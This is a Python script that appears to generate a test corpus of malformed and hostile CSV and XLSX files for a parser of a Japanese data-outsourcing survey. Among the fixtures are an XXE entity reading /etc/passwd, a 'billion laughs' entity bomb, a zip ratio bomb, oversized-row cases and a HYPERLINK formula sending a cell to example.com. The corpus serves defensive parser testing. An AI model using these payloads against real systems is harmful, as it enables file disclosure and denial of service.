"""Writes every file of this corpus, byte for byte (run it from anywhere: python3 make.py).
tests/test_survey_hostile.py checks that the committed files are what this writes, so each file's
recipe is here to read. The .xlsx files are written part by part with a fixed date, the smallest
workbooks openpyxl reads, so that they are the same bytes on every run."""
from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl.utils import get_column_letter

HERE = Path(__file__).resolve().parent

HEADER = ["委託元ID", "委託元名", "種別", "授受の安全管理", "保管の安全管理", "廃棄の安全管理", "再委託の制限",
          "再委託の確認", "確認方法", "規律の確認", "書面報告", "実地確認", "再委託先の説明", "本人数", "委託期間", "備考"]
ROW_A = ["a", "甲株式会社", "民間事業者", "あり", "なし", "なし", "あり", "あり", "書面", "あり", "なし", "なし", "なし",
         "約 231,000 人", "平成27年3月～平成29年3月", ""]
ROW_B = ["b", "東京都", "地方公共団体", "あり", "なし", "なし", "あり", "なし", "", "なし", "なし", "なし", "なし",
         "", "", ""]


def line(cells: list[str]) -> str:
    return ",".join(f'"{c}"' if any(ch in c for ch in ',"\r\n') else c for c in cells) + "\r\n"


def csv_files() -> dict[str, bytes]:
    good = line(HEADER) + line(ROW_A) + line(ROW_B)
    utf8 = lambda text: text.encode("utf-8")  # noqa: E731
    return {
        "ragged-short.csv": utf8(line(HEADER) + line(ROW_A) + line(ROW_B[:5])),
        "ragged-long.csv": utf8(line(HEADER) + line(ROW_A + ["余り"]) + line(ROW_B)),
        "empty.csv": b"",
        "blank-lines-only.csv": b"\r\n\r\n,,,\r\n",
        "header-only.csv": utf8(line(HEADER)),
        "duplicate-column.csv": utf8(line(HEADER + ["委託元名"]) + line(ROW_A + ["乙"]) + line(ROW_B + ["丙"])),
        "duplicate-alias.csv": utf8(line(HEADER + ["name"]) + line(ROW_A + ["乙"]) + line(ROW_B + ["丙"])),
        "unknown-column.csv": utf8(line(HEADER + ["colour"]) + line(ROW_A + ["red"]) + line(ROW_B + ["blue"])),
        "value-without-header.csv": utf8(line(HEADER + [""]) + line(ROW_A + ["迷子"]) + line(ROW_B + [""])),
        # a cell over csv's 128 KiB: csv.Error was an internal error
        "long-cell.csv": utf8(line(HEADER) + line(ROW_A[:15] + ["長" * 50_000])),
        "unclosed-quote.csv": utf8(line(HEADER) + line(ROW_A) + 'b,"東京都,地方公共団体\r\n'),
        "quote-in-quoted-cell.csv": utf8(line(HEADER) + 'a,"甲"株式会社",' + ",".join(ROW_A[2:]) + "\r\n"),
        # "CSV (Macintosh)": rows ended by CR alone
        "cr-only.csv": utf8(good.replace("\r\n", "\r")),
        # UTF-8 except row 3, saved from a Shift_JIS editor: was read wholly as Shift_JIS, 東京都 as mojibake
        "mixed-utf8-sjis.csv": utf8(line(HEADER) + line(ROW_A)) + line(ROW_B).encode("cp932"),
        # Shift_JIS except row 3, pasted in as UTF-8
        "mixed-sjis-utf8.csv": (line(HEADER) + line(ROW_A)).encode("cp932") + utf8(line(ROW_B)),
        "bom-then-sjis.csv": b"\xef\xbb\xbf" + utf8(line(HEADER) + line(ROW_A)) + line(ROW_B).encode("cp932"),
        "utf16.csv": good.encode("utf-16"),
        "latin1.csv": utf8(line(HEADER)) + line(["a", "Café", "private", *["yes"] * 4, "no", "", *["no"] * 3,
                                                 "none", "", "", ""]).encode("latin-1"),
        "zip-named-csv.csv": xlsx_files()["far-row.xlsx"],
        "control-character.csv": utf8(line(HEADER) + line(["a", "甲\x07株式会社", *ROW_A[2:]])),
        "unknown-subcontractor.csv": utf8(line(HEADER) + line([*ROW_A[:12], "ghost", *ROW_A[13:]])),
        "duplicate-consignor.csv": utf8(line(HEADER) + line(ROW_A) + line(ROW_A)),
        "bad-answer.csv": utf8(line(HEADER) + line([*ROW_A[:3], "たぶん", *ROW_A[4:]])),
        "long-id.csv": utf8(line(HEADER) + line(["a" * 199, *ROW_A[1:]])),
        "bidi-name.csv": utf8(line(HEADER) + line(["a", "甲\u202e社", *ROW_A[2:]])),
    }


# xlsx --------------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def col(index: int) -> str:
    """The spreadsheet letter of a 0-based column index (openpyxl's, 1-based)."""
    return get_column_letter(index + 1)


def cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{esc(value)}</t></is></c>'


def sheet_rows(rows: list[list[str]], extra: dict[str, str] | None = None) -> str:
    """Rows of inline strings; ``extra`` maps a cell reference to raw XML replacing that cell."""
    extra = dict(extra or {})
    out = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{col(c)}{r}"
            cells.append(extra.pop(ref) if ref in extra else (cell(ref, value) if value else ""))
        out.append(f'<row r="{r}">{"".join(cells)}</row>')
    return "".join(out)


def worksheet(rows_xml: str, prolog: str = "", dimension: str = "A1:P3", tail: str = "") -> str:
    return (f'{DECL}{prolog}<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>'
            f"<sheetData>{rows_xml}</sheetData></worksheet>{tail}")


def workbook(sheet: str | None, parts: dict[str, str | bytes] | None = None) -> bytes:
    overrides = ['<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.spreadsheetml.sheet.main+xml"/>']
    sheets = rels = ""
    if sheet is not None:
        overrides.append('<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
                         'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
        sheets = f'<sheet name="委託元調査" sheetId="1" r:id="rId1"/>'
        rels = f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    parts = dict(parts or {})
    if "xl/sharedStrings.xml" in parts:
        overrides.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
                         'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels += f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": (f'{DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                                'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                                f'{"".join(overrides)}</Types>'),
        "_rels/.rels": (f'{DECL}<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/officeDocument" '
                        'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": f'{DECL}<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{DECL}<Relationships xmlns="{PKG}">{rels}</Relationships>',
    }
    if sheet is not None:
        files["xl/worksheets/sheet1.xml"] = sheet
    files.update(parts)
    import io
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buffer.getvalue()


def xlsx_files() -> dict[str, bytes]:
    good = [HEADER, ROW_A, ROW_B]
    laughs = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return {
        # a live formula where the name belongs: not evaluated, refused
        "formula.xlsx": workbook(worksheet(sheet_rows(good, {"B2": '<c r="B2" t="str"><f>HYPERLINK("http://'
                                                               'example.com/?q="&amp;A2,"甲株式会社")</f>'
                                                               '<v>甲株式会社</v></c>'}))),
        "error-value.xlsx": workbook(worksheet(sheet_rows(good, {"D2": '<c r="D2" t="e"><v>#N/A</v></c>'}))),
        "value-beyond-header.xlsx": workbook(worksheet(sheet_rows([HEADER, ROW_A + ["", "", "迷子"], ROW_B]))),
        "ragged-duplicate-column.xlsx": workbook(worksheet(sheet_rows([HEADER + ["委託元ID"], ROW_A + ["a"], ROW_B]))),
        "header-only.xlsx": workbook(worksheet(sheet_rows([HEADER]))),
        # an external entity (XXE) reading a local file into a cell
        "xxe.xlsx": workbook(worksheet(sheet_rows([HEADER, ["&xxe;", *ROW_A[1:]]]).replace("&amp;xxe;", "&xxe;"),
                                       prolog='<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
        # "billion laughs" in the shared strings: 10^9 lols from a few hundred bytes
        "entity-bomb.xlsx": workbook(
            worksheet(sheet_rows(good, {"B2": '<c r="B2" t="s"><v>0</v></c>'})),
            {"xl/sharedStrings.xml": f'{DECL}<!DOCTYPE sst [{laughs}]><sst xmlns="{MAIN}" count="1" uniqueCount="1">'
                                     "<si><t>&l9;</t></si></sst>"}),
        # one cell in the last row Excel has: openpyxl would yield a million rows
        "far-row.xlsx": workbook(worksheet(sheet_rows(good) + f'<row r="1048576">{cell("A1048576", "x")}</row>',
                                           dimension="A1:P3")),
        # a row as wide as Excel allows, in every one of 20 rows
        "wide-rows.xlsx": workbook(worksheet("".join(f'<row r="{r}">{cell(f"XFD{r}", "x")}</row>'
                                                     for r in range(1, 21)), dimension="A1:A1")),
        # 9 MiB of blanks in 9 KB: the part expands over 100 times its archive
        "ratio-bomb.xlsx": workbook(worksheet(sheet_rows(good), tail=" " * (9 << 20))),
        "no-sheet.xlsx": workbook(None),
        "not-a-zip.xlsx": ",".join(HEADER).encode("utf-8") + b"\r\n",
        "ole-container.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "truncated.xlsx": workbook(worksheet(sheet_rows(good)))[:700],
    }


def files() -> dict[str, bytes]:
    return {**csv_files(), **xlsx_files()}


if __name__ == "__main__":
    for name, data in files().items():
        (HERE / name).write_bytes(data)
    print(f"{len(files())} files written to {HERE}")
